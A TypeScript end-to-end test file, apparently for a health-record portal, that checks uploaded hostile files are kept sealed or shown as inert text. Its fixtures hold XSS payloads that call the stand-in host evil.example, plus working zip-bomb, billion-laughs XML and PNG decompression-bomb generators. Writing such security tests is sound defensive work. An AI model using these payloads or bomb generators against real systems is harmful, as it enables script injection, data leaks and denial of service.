import { open, stat, truncate } from 'node:fs/promises'
import { join } from 'node:path'
import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import type { Locator } from 'playwright-core'
import { afterAll, beforeAll, expect, inject, test } from 'vitest'
import type { Person } from './browser'
import { Cast, desktop } from './cast'
import { keep, openNewest, wasNotHarmed, type Kept } from './files'

const elsewhere = 'http://evil.example'
const script = `globalThis.harmed = 1; fetch('${elsewhere}')`

// What a script in a record could do is remembered under `harmed`, and by what leaves for elsewhere.
const neverShown: Kept[] = [
  aText('script.svg', 'image/svg+xml',
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script></svg>`),
  aText('page.html', 'text/html', `<script>${script}</script><img src="${elsewhere}/x" onerror="${script}">`),
  aText('page.xhtml', 'application/xhtml+xml',
    `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`),
  { name: 'bomb.zip', mimeType: 'application/zip', buffer: deflateRawSync(Buffer.alloc(64 * 1024 * 1024)) },
]

const shownAsText: Kept[] = [
  aText('note.txt', 'text/plain', `Read on <script>${script}</script> <img src=x onerror="${script}">`),
  aText('narrative.json', 'application/fhir+json', JSON.stringify({
    resourceType: 'Observation',
    code: { text: `Potassium <img src=x onerror="${script}">` },
    text: { status: 'generated', div: `<div><script>${script}</script></div>` },
    valueString: `<a href="javascript:${script}">high</a>`,
  })),
  aText('deep.json', 'application/json', '['.repeat(150_000)),
  aText('wide.json', 'application/fhir+json', JSON.stringify({
    resourceType: 'Observation',
    component: Array.from({ length: 30_000 }, (_, at) => ({ code: { text: `${at}` }, valueString: 'high' })),
  })),
  aText('laughs.xml', 'application/xml', aThousandMillionLaughs()),
  aText('sheet.xml', 'text/xml', `<?xml-stylesheet type="text/xsl" href="${elsewhere}/x.xsl"?>`
    + `<ClinicalDocument xmlns="urn:hl7-org:v3"><script xmlns="http://www.w3.org/1999/xhtml">${script}</script>`
    + '</ClinicalDocument>'),
]

const halfGigabyte = 500_000_000
const patienceMs = 600_000
const notAnImage = aText('image.png', 'image/png', `<script>${script}</script>`)

let cast: Cast
let patient: Person

beforeAll(async () => {
  cast = await Cast.begin(inject('network'))
  patient = await cast.patient('Cornelius Vandersteen', desktop)
})
afterAll(() => cast?.end())

// spec portal 8.4
test.each(neverShown)('$name is kept sealed, and only handed over as a file that no browser runs', async hostile => {
  await keep(patient, hostile)
  const record = await openNewest(patient)
  await record.getByText('It is not shown here').waitFor()
  const download = patient.page.waitForEvent('download')
  await record.getByRole('button', { name: 'Save as a file' }).click()
  expect((await download).suggestedFilename()).toMatch(/\.(bin|zip)$/)
  await wasNotHarmed(patient)
})

// spec portal 8.4
test.each(shownAsText)('$name is shown as words, and nothing of it runs', async hostile => {
  await keep(patient, hostile)
  const record = await openNewest(patient)
  await record.getByText('Unchanged since block').waitFor()
  await wasNotHarmed(patient)
})

// spec portal 8.4, 9.1
test('an image that is none, or is larger than a screen could ever show, leaves the page alive', async () => {
  const bomb = { name: 'bomb.png', mimeType: 'image/png', buffer: anImageOf(30_000, 30_000) }
  for (const [hostile, said] of [[notAnImage, 'This is no image'], [bomb, 'has 30000 × 30000 points']] as const) {
    await keep(patient, hostile)
    await (await openNewest(patient)).getByText(said).waitFor()
    await wasNotHarmed(patient)
    await patient.isAccessible()
  }
})

// spec portal 8.4
test('a file of 2 GB is refused before it is read', async () => {
  const file = join(cast.folder, 'large.bin')
  await (await open(file, 'w')).close()
  await truncate(file, 2_000_000_000)
  const { page } = patient
  await patient.goTo('Write a record')
  const before = patient.sent.length
  await page.locator('input[type=file]').setInputFiles(file)
  await page.getByText('larger than 1 GB').waitFor()
  expect(await page.getByRole('button', { name: 'Seal and store' }).isDisabled()).toBe(true)
  expect(patient.sent.slice(before).filter(sent => /\/v1\/(content|uploads)/.test(sent))).toEqual([])
})

// spec portal 8.4, 8.5
const long = test.runIf(process.env['SALUS_LONG'] === '1')
long('a file of 500 MB is sealed, sent, fetched and saved part by part', async () => {
  const file = join(cast.folder, 'half.bin')
  await (await open(file, 'w')).close()
  await truncate(file, halfGigabyte)
  const { page } = patient
  await patient.goTo('Write a record')
  await page.getByLabel('Category').selectOption({ label: 'Imaging' })
  await page.locator('input[type=file]').setInputFiles(file)
  await page.getByRole('button', { name: 'Seal and store' }).click()
  const stored = page.getByText('Stored, and final in block')
  expect(await heapUntil(stored)).toBeLessThan(halfGigabyte / 2)
  const record = await openNewest(patient)
  // The dialog for files is the browser's own; without it the file is handed over as a download.
  await page.evaluate(() => { delete (window as { showSaveFilePicker?: unknown }).showSaveFilePicker })
  const downloaded = page.waitForEvent('download', { timeout: patienceMs })
  await record.getByRole('button', { name: 'Save to a file' }).click()
  expect(await heapUntil(record.getByText('All of it was checked in this browser.'))).toBeLessThan(halfGigabyte / 2)
  expect((await stat(await (await downloaded).path())).size).toBe(halfGigabyte)
  await wasNotHarmed(patient)
}, 2 * patienceMs)

test('no page broke its policy, and nothing left for elsewhere', () => {
  expect(patient.wrongs).toEqual([])
  expect(patient.sent.filter(sent => sent.startsWith(elsewhere))).toEqual([])
})

/** The most memory that a page's script held until something is shown, in bytes. */
async function heapUntil(shown: Locator): Promise<number> {
  const session = await shown.page().context().newCDPSession(shown.page())
  let most = 0
  await expect.poll(async () => {
    const { usedSize, backingStorageSize = 0 } =
      await session.send('Runtime.getHeapUsage') as { usedSize: number; backingStorageSize?: number }
    most = Math.max(most, usedSize + backingStorageSize)
    return shown.isVisible()
  }, { timeout: patienceMs, interval: 200 }).toBe(true)
  await session.detach()
  return most
}

function aText(name: string, mimeType: string, words: string): Kept {
  return { name, mimeType, buffer: Buffer.from(words) }
}

// Entities of entities: a kilobyte that a careless reader makes gigabytes of.
function aThousandMillionLaughs(): string {
  const levels = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`)
  return `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">${levels.join('')}]>`
    + '<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&l9;</title></ClinicalDocument>'
}

// One bit a pixel, all of them black: little to send, and a great deal to draw.
function anImageOf(width: number, height: number): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([1, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc(height * (1 + Math.ceil(width / 8))), { level: 9 })
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0)),
  ])
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const whole = Buffer.alloc(body.length + 8)
  whole.writeUInt32BE(data.length, 0)
  whole.set(body, 4)
  whole.writeUInt32BE(crc32(body), body.length + 4)
  return whole
}
